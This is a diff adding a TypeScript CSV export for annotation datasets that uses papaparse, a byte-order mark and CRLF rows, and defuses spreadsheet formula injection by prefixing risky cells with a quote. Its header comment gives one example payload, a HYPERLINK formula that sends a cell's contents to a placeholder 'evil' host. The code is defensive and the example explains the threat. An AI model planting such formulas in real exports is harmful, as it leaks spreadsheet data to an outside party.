@@ -1,0 +1,75 @@
+// Model → CSV, one row per annotation, for spreadsheets: RFC 4180 quoting (papaparse), CRLF at
+// the end of every row, and a UTF-8 byte-order mark first, without which Excel reads UTF-8 as
+// the system code page and mangles every curly quote and accented name.
+//
+// Formula injection. Spreadsheet programs run a cell that starts with = + - @ (or a tab or CR)
+// as a formula, and the text in these cells comes from documents and notes anyone may have
+// written: `=HYPERLINK("https://evil/?"&A1, "source")` in a web article would leak the sheet
+// when clicked. By default such cells are defused the way OWASP recommends, with a leading `'`,
+// which spreadsheets hide but other readers see: a quote "@ZMnatsakanyan" reads
+// "'@ZMnatsakanyan". The CSV is for people; programs should read the dataset or JSONL exports,
+// whose quotes are exact, or ask for `defuseFormulas: false`.
+
+import Papa from 'papaparse';
+import type { Annotation } from '../../model/annotation.ts';
+import type { DatasetModel } from '../dataset/index.ts';
+
+export const CSV_COLUMNS = [
+  'document_id',
+  'document_title',
+  'label',
+  'start',
+  'end',
+  'quote',
+  'annotator_id',
+  'annotator_name',
+  'note',
+  'created_at',
+  'updated_at',
+] as const;
+
+export interface CsvExportOptions {
+  /** Prefix cells a spreadsheet would run as a formula with `'` (default true). */
+  defuseFormulas?: boolean;
+}
+
+/** papaparse's own pattern ends in `.*$`, which misses a formula followed by a line break. */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/** The CSV text, BOM first: documents in the order given, each one's annotations by position. */
+export function encodeCsv(model: DatasetModel, options: CsvExportOptions = {}): string {
+  const titles = new Map(model.documents.map((document) => [document.id, document.title]));
+  const order = new Map(model.documents.map((document, i) => [document.id, i]));
+  const names = new Map(model.annotators.map((annotator) => [annotator.id, annotator.name]));
+  const rows = model.annotations
+    .filter((annotation) => order.has(annotation.documentId))
+    .sort((a, b) => order.get(a.documentId)! - order.get(b.documentId)! || byPosition(a, b))
+    .map((annotation) => [
+      annotation.documentId,
+      titles.get(annotation.documentId)!,
+      annotation.label,
+      annotation.start,
+      annotation.end,
+      annotation.quote,
+      annotation.annotator,
+      names.get(annotation.annotator) ?? annotation.annotator,
+      annotation.note,
+      annotation.createdAt,
+      annotation.updatedAt,
+    ]);
+  const csv = Papa.unparse(
+    { fields: [...CSV_COLUMNS], data: rows },
+    {
+      newline: '\r\n',
+      // Numbers are never defused: papaparse leaves number cells alone, so -1 stays -1.
+      escapeFormulae: options.defuseFormulas === false ? false : FORMULA_START,
+    },
+  );
+  // papaparse ends the last row without a line break (but a lone header with one); RFC 4180
+  // allows both, and every row ending alike is what line-oriented tools expect.
+  return `\uFEFF${csv}${csv.endsWith('\r\n') ? '' : '\r\n'}`;
+}
+
+function byPosition(a: Annotation, b: Annotation): number {
+  return a.start - b.start || a.end - b.end || (a.id < b.id ? -1 : a.id > b.id ? 1 : 0);
+}
